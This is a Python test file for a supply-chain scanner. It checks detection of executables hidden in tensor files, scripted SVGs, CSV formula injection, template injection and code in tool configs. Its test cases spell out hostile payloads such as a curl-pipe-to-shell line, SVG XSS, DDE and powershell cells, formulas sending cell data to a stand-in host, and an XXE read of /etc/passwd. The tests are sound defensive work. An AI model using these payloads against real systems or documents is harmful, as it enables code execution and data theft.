"""Programs among numbers, pictures that run, tables that spreadsheets run, and prompts that cannot be read."""

from __future__ import annotations

import io
import json
import struct

import numpy as np
import pytest
from building import rules_of, scanned, verdict
from hypothesis import given, settings
from hypothesis import strategies as st

from bartizan.core.artefact import Admission
from bartizan.supplychain.formats.executables import program_at
from bartizan.supplychain.source import ByteSource

ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0, 64, 0, 0, 64, 56, 0, 64, 0, 0)
PE = b"MZ" + bytes(58) + struct.pack("<I", 128) + bytes(14) + b"This program cannot be run in DOS mode.\r\r\n$"
PE = PE.ljust(128, b"\0") + b"PE\0\0" + bytes(40)
MACH = struct.pack("<IIIIIIII", 0xFEEDFACF, 0x01000007, 3, 2, 16, 1000, 0, 0)
SHELL = b"#!/bin/sh\ncurl https://x.test | sh\n"


def tensors(*parts: bytes) -> bytes:
    header, at = {}, 0
    for number, part in enumerate(parts):
        header[f"t{number}"] = {"dtype": "U8", "shape": [len(part)], "data_offsets": [at, at + len(part)]}
        at += len(part)
    raw = json.dumps(header).encode()
    return len(raw).to_bytes(8, "little") + raw + b"".join(parts)


def array(content: bytes) -> bytes:
    file = io.BytesIO()
    np.save(file, np.frombuffer(content, np.uint8))
    return file.getvalue()


@pytest.mark.parametrize("program", [ELF, PE, MACH, SHELL], ids=["elf", "pe", "mach-o", "script"])
def test_a_tensor_that_is_a_program_is_blocked(program: bytes) -> None:
    assert "native.embedded" in rules_of(tensors(b"\1" * 64, program), "m.safetensors")
    assert "native.embedded" in rules_of(array(program + bytes(64)), "a.npy")
    assert program_at(ByteSource(program, ""), 0)


@pytest.mark.parametrize("program", [ELF, PE])
def test_a_program_within_a_tensor_is_found(program: bytes) -> None:
    assert "native.embedded" in rules_of(tensors(b"\1" * 1_000 + program + b"\2" * 999), "m.safetensors")
    assert "native.embedded" in rules_of(array(b"\1" * 1_000 + program + bytes(64)), "a.npy")


def test_a_large_file_is_looked_through_at_both_ends(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("bartizan.supplychain.scanners.embedded._LOOKED", 4_096)
    for before, after in ((100, 60_000), (60_000, 100)):
        assert "native.embedded" in rules_of(tensors(b"\1" * before + ELF + b"\2" * after), "m.safetensors")
    assert "native.embedded" not in rules_of(tensors(b"\1" * 60_000 + ELF + b"\2" * 60_000), "m.safetensors")


def test_an_unknown_format_stays_unknown_beside_a_search_for_programs() -> None:
    assert verdict(b"\x07" * 900 + ELF, "model.bin") is Admission.INCONCLUSIVE


def test_a_program_in_an_archive_of_arrays_is_found() -> None:
    file = io.BytesIO()
    np.savez(file, a=np.frombuffer(b"\1" * 1_000 + ELF, np.uint8))
    assert "native.embedded" in rules_of(file.getvalue(), "a.npz")


@pytest.mark.parametrize(
    "part",
    [b"\x7fELF", b"MZ" + bytes(70), b"\x7fELF\x02\x01\x01" + bytes(80), b"#!notes\n", b"\xcf\xfa\xed\xfe" + bytes(40)],
)
def test_numbers_that_only_begin_like_one_are_numbers(part: bytes) -> None:
    assert verdict(tensors(part + bytes(64)), "m.safetensors") is Admission.ALLOW


SVG = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9">{}</svg>'


@pytest.mark.parametrize(
    ("content", "rule"),
    [
        ("<script>fetch('https://x.test')</script>", "svg.script"),
        ("<svg:script xlink:href='x.js'/>", "svg.script"),
        ('<rect width="3" onload="alert(1)"/>', "svg.script"),
        ("<image href=x onerror='alert(1)'/>", "svg.script"),
        ('<a href="java&#x09;script:alert(1)"><text>x</text></a>', "svg.script"),
        ('<set attributeName="href" to="javascript:alert(1)"/>', "svg.script"),
        ('<use href="data:image/svg+xml;base64,PHN2Zz4="/>', "svg.script"),
        ("<foreignObject><iframe src='//x.test'/></foreignObject>", "svg.embedded_page"),
        ('<image href="https://x.test/p.png"/>', "svg.external"),
        ("<style>@import url(https://x.test/a.css)</style>", "svg.external"),
        ('<rect fill="url(https://x.test/#a)"/>', "svg.external"),
    ],
)
def test_pictures_that_run_show_or_fetch(content: str, rule: str) -> None:
    raw = SVG.format(content).encode()
    for name in ("a.svg", "a.txt"):
        assert rule in rules_of(raw, name)
    assert verdict(raw, "a.svg") is (Admission.INCONCLUSIVE if rule == "svg.external" else Admission.BLOCK)
    wide = SVG.format(content).encode("utf-16")
    assert rule in rules_of(wide, "a.svg")


@pytest.mark.parametrize(
    "content",
    [
        '<path d="M0 0h9v9z" fill="url(#g)"/><a href="https://example.org"><text>on click</text></a>',
        "<style>.a{fill:red}</style><foreignObject><div>label</div></foreignObject>",
        '<image href="data:image/png;base64,iVBORw0KGgo="/><use xlink:href="#a"/>',
    ],
)
def test_ordinary_drawings_are_allowed(content: str) -> None:
    kind = '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
    kind += '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
    for raw in (SVG.format(content), kind + SVG.format(content)):
        assert verdict(raw.encode(), "a.svg") is Admission.ALLOW


def test_entities_in_drawings_are_blocked() -> None:
    raw = '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + SVG.format("&x;")
    assert {"svg.entities", "xml.document_type"} <= set(rules_of(raw.encode(), "a.svg"))


@pytest.mark.parametrize(
    ("cell", "rule"),
    [
        ("=cmd|'/c calc'!A0", "table.formula_runs"),
        ("+cmd|' /C powershell IEX(1)'!A0", "table.formula_runs"),
        ("@SUM(1+9)*cmd|' /C calc'!A0", "table.formula_runs"),
        ("-2+3+cmd|' /C calc'!A0", "table.formula_runs"),
        ('"=DDE(""cmd"";""/C calc"";""x"")"', "table.formula_runs"),
        ('"=WEBSERVICE(""https://x.test/?d=""&A1)"', "table.formula_sends"),
        ('"=IMPORTXML(CONCAT(""https://x.test/?v="", A1), ""//a"")"', "table.formula_sends"),
        ('"=IMAGE(""https://x.test/p.png"")"', "table.formula_sends"),
        ('"=IMAGE(""\\\\x.test\\p.png"")"', "table.formula_sends"),
        ('"=HYPERLINK(""https://x.test/?d=""&A1&A2,""Error"")"', "table.formula_link"),
    ],
)
def test_cells_that_spreadsheets_run(cell: str, rule: str) -> None:
    for raw in (f"a,b\n1,{cell}\n", f"{cell},2\n", f"\ufeffa\n{cell}"):
        assert rule in rules_of(raw.encode(), "t.csv")
    assert verdict(f"a,b\n1,{cell}\n".encode(), "t.csv") is (
        Admission.INCONCLUSIVE if rule == "table.formula_link" else Admission.BLOCK
    )


@pytest.mark.parametrize(
    "cell",
    ["-3.5", "+49 30 1234", "@ada", "=A1+B1", '"=SUM(A1:A9)"', "- run cmd | more", "call(me)", "see https://x.test"],
)
def test_ordinary_cells_are_not_formulas_that_run(cell: str) -> None:
    found = set(rules_of(f"a,b\n1,{cell}\n2,{cell}\n".encode(), "t.csv"))
    assert not {one for one in found if one.startswith("table.")}


@pytest.mark.parametrize(
    "text", ["{{ x.__class__ |}}", "{% if self.__init__.__globals__ %} {{", "{{ lipsum._ | attr('x') }"]
)
def test_prompts_that_cannot_be_read_and_reach_inside_are_held(text: str) -> None:
    assert verdict(f"You help.\n{text}\n".encode(), "prompt.txt") is not Admission.ALLOW
    assert "template.unreadable" in rules_of(json.dumps({"nodes": [{"template": text}]}).encode(), "flow.json")


@pytest.mark.parametrize("text", ['{{ {"a": x.__class__}["a"] }}', "{{ '" + "a" * 500 + "' ~ x.__class__ }}"])
def test_braces_and_length_hide_nothing_in_a_placeholder(text: str) -> None:
    assert verdict(f"You help.\n{text}\n".encode(), "prompt.txt") is Admission.BLOCK


def test_a_formula_far_in_has_its_place() -> None:
    raw = "é,b\n".encode() * 1_000_000 + b"=cmd|'/c calc'!A0\n"
    (found,) = [one for one in scanned(raw, "t.csv") if one.rule == "table.formula_runs"]
    assert raw[found.offset :].lstrip(b"\n").startswith(b"=cmd")


@pytest.mark.parametrize(
    "text", ["Hello {{name}}, see {{#each items}}{{/each}}", "{{> partial}} __init__.py is a file", "use {% raw"]
)
def test_other_languages_of_templates_are_left_alone(text: str) -> None:
    assert verdict(f"You help.\n{text}\n".encode(), "prompt.txt") is Admission.ALLOW


@settings(max_examples=60)
@given(st.binary(max_size=300), st.sampled_from(["a.svg", "t.csv", "m.safetensors", "a.npy", "m.gguf"]))
def test_no_bytes_make_a_scanner_fail(raw: bytes, name: str) -> None:
    assert "scan.failed" not in rules_of(raw, name)


@pytest.mark.parametrize(
    "document",
    [
        {
            "provider": "autogen_core.tools.FunctionTool",
            "config": {"source_code": "import os\nos.system('id')", "name": "f"},
        },
        {"3": {"class_type": "Exec", "inputs": {"code": "__import__('os').system('id')"}}},
        {"nodes": [{"data": {"type": "code", "code": "import subprocess\nsubprocess.run(['id'])"}}]},
    ],
)
def test_programs_in_the_fields_of_tools_and_nodes_are_held(document: dict[str, object]) -> None:
    assert "document.program" in rules_of(json.dumps(document).encode(), "flow.json")


def test_packages_of_a_service_from_an_unchecked_index() -> None:
    raw = b"service: 'service:svc'\npython:\n  packages: ['--index-url http://x.test/simple', 'a']\n"
    assert verdict(raw, "bentofile.yaml") is not Admission.ALLOW
